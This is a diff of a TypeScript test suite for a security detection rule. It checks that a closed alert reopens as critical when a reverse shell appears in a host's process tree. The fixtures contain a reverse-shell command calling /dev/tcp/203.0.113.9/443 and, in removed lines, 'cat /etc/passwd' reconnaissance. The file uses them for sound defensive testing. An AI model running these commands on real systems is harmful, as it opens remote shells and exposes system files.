@@ -75,7 +75,7 @@ export const risenSuite = (kibana: Kibana): void => {
       return messages.length >= count ? messages : undefined;
     });
   const findAlertsOfHost = (): Promise<AlertPage> =>
-    kibana.call(findAlerts, { body: { hosts: [HOST] } });
+    kibana.call(findAlerts, { body: { hosts: [HOST], sortField: 'severity' } });
 
   beforeAll(async () => {
     const index = await createConnector(kibana, '.index', { index: MESSAGES });
@@ -98,7 +98,7 @@ export const risenSuite = (kibana: Kibana): void => {
         },
       ],
     };
-    await addStart('root', 'id; uname -a; cat /etc/passwd', WORKER, [WORKER.entity_id]);
+    await addStart('root', 'w', WORKER, [WORKER.entity_id]);
     const actions = [toAction('match'), toAction('severity_rose')];
     ruleId = await createRuleCopy(kibana, actions, params);
   }, MINUTES_3);
@@ -114,28 +114,28 @@ export const risenSuite = (kibana: Kibana): void => {
     'a closed alert comes back when its tree becomes graver, and its actions are those of a rise',
     async () => {
       expect(await awaitMessages(1)).toMatchObject([{ group: 'match' }]);
-      const { alerts } = await findAlertsOfHost();
-      expect(alerts).toHaveLength(1);
-      const [before] = alerts;
-      if (before === undefined) throw new Error('There is no alert.');
-      expect(before.severity).not.toBe('critical');
-      await kibana.call(setAlertStatus, { body: { ids: [before.id], status: 'closed' } });
+      // Where the app's own rule is on it has found the same tree: one row, as soon as its next run has folded them.
+      const { alerts: before } = await findAlertsOfHost();
+      expect(before.length).toBeGreaterThan(0);
+      expect(before.map(({ severity }) => severity)).not.toContain('critical');
+      const ids = before.map(({ id }) => id);
+      await kibana.call(setAlertStatus, { body: { ids, status: 'closed' } });
 
-      const child = {
-        ...WORKER,
-        entity_id: `${HOST}-root`,
-        name: 'dash',
-        executable: '/usr/bin/dash',
-      };
+      const shell = { entity_id: `${HOST}-root`, name: 'dash', executable: '/usr/bin/dash' };
+      const parent = { ...shell, args: ['sh', '-c', 'w'] };
       const ancestry = [`${HOST}-root`, WORKER.entity_id];
-      await addStart('shell', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1', child, ancestry);
-      await runAgain(kibana, ruleId);
-      const messages = await awaitMessages(2);
+      await addStart('shell', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1', parent, ancestry);
+      // Runs look at a known tree again once a minute.
+      const messages = await until('news of the tree', 150, async () => {
+        await runAgain(kibana, ruleId);
+        const told = await readMessages();
+        return told.length > 1 ? told : undefined;
+      });
       expect(messages.map(({ group }) => group).sort()).toEqual(['match', 'severity_rose']);
       expect(messages.find(({ group }) => group === 'severity_rose')?.text).toContain('/dev/tcp/');
 
-      const after = await findAlertsOfHost();
-      expect(after.alerts).toMatchObject([{ status: 'open', severity: 'critical' }]);
+      const { alerts: after } = await findAlertsOfHost();
+      expect(after[0]).toMatchObject({ status: 'open', severity: 'critical' });
     },
     MINUTES_3
   );
